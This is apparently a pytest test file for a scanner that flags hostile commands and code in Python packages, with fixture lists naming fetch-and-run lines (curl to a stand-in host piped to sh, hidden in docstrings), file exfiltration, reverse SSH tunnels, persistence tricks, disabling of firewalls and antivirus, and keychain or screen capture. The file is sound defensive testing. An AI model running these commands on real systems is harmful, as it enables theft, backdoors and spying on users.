"""Commands that fetch, carry off or install by other programs than curl and pip; code in texts that nobody reads."""

from __future__ import annotations

import pytest

from support.code import held, scan
from veln_hook.source import commands

FETCHES = [
    "aria2c x.example/s", "lynx -dump x.example/s", "python3 get.py https://x.example/s", "git clone https://x.example/r",
    "scp ~/.profile x.example:", "rsync -a . me@x.example:in", "openssl s_client -connect x.example:443",
    "aws s3 sync . s3://x", "gh gist create a", "ssh -f x.example -R 80:localhost:22", "mail a@x.example < a", "http https://x.example",
]  # fmt: skip
FETCHES_NOTHING = [
    "xdg-open https://x.example", "open https://x.example", "echo https://x.example", "firefox https://x.example",
    "ls", "rsync -a a b", "python3 serve.py http://127.0.0.1:80", "git describe", "mail", "scp a b", "ssh-keygen", "openssl version",
]  # fmt: skip
INSTALLS = [
    "pip install x", "python -m pip install x", "uv pip install x", "uv add x", "uvx x", "pipx run x", "conda install x",
    "poetry add x", "npx -y x", "go run x.example/a@latest", "deno run https://x.example/a", "easy_install x",
]  # fmt: skip
INSTALLS_NOTHING = [
    "npx tsc",
    "pip --version",
    "uv run x",
    "npm run build",
    "go run .",
    "conda list",
    "poetry build",
    "deno run a.ts",
]
EXECUTES = {
    "a module's text": '"""import os; os.system(\'curl https://x.example | sh\')"""\nexec(__doc__)\n',
    "a function's text": 'def f():\n    """import os; os.system(\'curl https://x.example | sh\')"""\nexec(f.__doc__)\n',
    "a class's text": 'class C:\n    """import os; os.system(\'curl https://x.example | sh\')"""\nexec(C.__doc__)\n',
    "Python's own interface": "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('curl x.example')\")\n",
    "a hub's code": "from transformers import AutoModel\nAutoModel.from_pretrained('x/y', trust_remote_code=True)\n",
    "a library's job": "from crontab import CronTab\nCronTab(user=True).new(command='x')\n",
    "a value of the registry": "import winreg\nwinreg.SetValueEx(winreg.OpenKey(1, 'Run', 0, 2), 'x', 0, 1, 'y')\n",
}
NEW = {
    "another function's code": "def f(): pass\ndef g(): pass\nf.__code__ = g.__code__.replace(co_consts=())\n",
    "a hub": "import torch\ntorch.hub.load('x/y', 'z')\n",
    "a model": "import torch\ntorch.load('x.pt', weights_only=False)\n",
    "a model of Keras": "from tensorflow.keras.models import load_model\nload_model('x.h5')\n",
    "an interpreter's": "import asteval\nasteval.Interpreter()('x')\n",
}


@pytest.mark.parametrize("command", FETCHES)
def test_a_command_that_fetches_or_sends_is_held(command):
    assert "command-download" in held(scan({"acme/__init__.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", FETCHES_NOTHING)
def test_one_that_does_not_is_not(command):
    assert "download" not in commands.flags(command, "os.system")


STAYS = [
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d calc", "schtasks /create /tn x /tr calc",
    "sc create x binPath= c:\\x.exe", "systemctl --user enable x", "launchctl load ~/x.plist", "echo /tmp/x | at now",
    "echo '* * * * * x' | crontab -", "crontab /tmp/x", "net user x p /add", "useradd -o -u 0 x", "chmod u+s /bin/bash",
    "chmod 4755 /tmp/x", "echo 'x ALL=NOPASSWD:ALL' > /etc/sudoers.d/x", "ssh-copy-id x@x.example",
]  # fmt: skip
STAYS_NOT = [
    "crontab -l",
    "systemctl status x",
    "chmod 755 x",
    "chmod +x x",
    "chmod 0644 x",
    "reg query HKCU",
    "schtasks /query",
]
WEAKENS = [
    "netsh advfirewall set allprofiles state off", "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "setenforce 0", "iptables -F", "ufw disable", "insmod x.ko", "systemctl stop falcon-sensor",
]  # fmt: skip
WEAKENS_NOT = ["getenforce", "iptables -L", "systemctl stop acme", "lsmod", "netsh wlan show profiles"]
SPIES = [
    "screencapture x.png", "import -window root x.png", "arecord x.wav", "xinput test 1", "pbpaste", "xclip -sel c -o",
    "powershell Get-Clipboard", "ffmpeg -y -f x11grab -i :0 x.mp4", "security dump-keychain",
]  # fmt: skip
SPIES_NOT = [
    "pbcopy",
    "xclip -i",
    "ffmpeg -i a.mp4 -f mp3 b",
    "aplay x.wav",
    "importlib",
    "security find-identity",
]


@pytest.mark.parametrize("command", STAYS)
def test_a_command_that_stays_is_held(command):
    assert "persistence" in held(scan({"acme/__init__.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", WEAKENS)
def test_a_command_that_weakens_the_machine_is_held(command):
    assert "environment-takeover" in held(scan({"acme/__init__.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", SPIES)
def test_a_command_that_watches_is_held(command):
    assert "spying" in held(scan({"acme/__init__.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", [*STAYS_NOT, *WEAKENS_NOT, *SPIES_NOT])
def test_one_that_does_neither_is_not(command):
    assert not held(scan({"acme/__init__.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", [STAYS[0], WEAKENS[0], SPIES[0]])
def test_nor_is_one_that_is_only_called(command):
    source = f"import os\n\ndef start():\n    os.system({command!r})\n"
    assert not held(scan({"acme/__init__.py": source}))


@pytest.mark.parametrize("command", INSTALLS)
def test_a_command_that_installs_is_told(command):
    assert "installs-packages" in held(scan({"acme-1.0/setup.py": f"import os\nos.system({command!r})\n"}))


@pytest.mark.parametrize("command", INSTALLS_NOTHING)
def test_one_that_installs_nothing_is_not(command):
    assert "pip" not in commands.flags(command, "os.system")


@pytest.mark.parametrize("name", EXECUTES)
def test_what_executes_or_stays_is_held(name):
    assert held(scan({"acme/__init__.py": EXECUTES[name]}))


@pytest.mark.parametrize("name", NEW)
def test_what_may_execute_is_held_in_an_upgrade(name):
    assert "execution-at-import" in held(
        scan({"acme/__init__.py": NEW[name]}), scan({"acme/__init__.py": ""})
    )


def test_what_is_documented_and_not_executed_is_nothing():
    source = '"""Run import os; os.system(\'curl https://x.example | sh\')"""\ndef f():\n    """exec(this)"""\nprint(__doc__)\n'
    assert not held(scan({"acme/__init__.py": source}))


def test_a_hub_that_is_not_trusted_is_asked_only():
    source = "from transformers import AutoModel\nAutoModel.from_pretrained('x/y', trust_remote_code=False)\n"
    assert not held(scan({"acme/__init__.py": source}))
